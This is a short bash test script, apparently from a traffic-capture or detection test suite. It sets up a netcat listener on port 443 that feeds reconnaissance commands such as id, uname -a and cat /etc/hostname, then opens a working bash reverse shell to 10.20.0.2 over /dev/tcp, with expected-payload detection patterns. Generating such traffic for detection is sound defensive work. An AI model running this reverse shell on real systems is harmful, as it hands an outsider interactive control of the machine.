#!/bin/bash
# A reverse shell on HTTPS's port, no TLS: bash -i connects out, somebody types lines into netcat where it listens. The server types.
# packages: netcat-openbsd python3-minimal
# ports: tcp/443
# expect: tcp.srcport==443 && tcp.payload contains "uname -a"
# expect: tcp.dstport==443 && tcp.payload contains "uid="

. "${0%/*}/../lib.sh"
serve /usr/bin/python3 /mnt/typist.py 'id\n' 'uname -a\n' 'ls -l /home\n' 'cat /etc/hostname\n' 'ps\n' 'ls /srv\n' 'exit\n' -- nc -n -l -p 443
listening tcp 443
capture tcp
client env PS1='\u@\h:\w\$ ' bash --norc --noprofile -c 'exec bash --norc --noprofile -i >/dev/tcp/10.20.0.2/443 0<&1 2>&1'
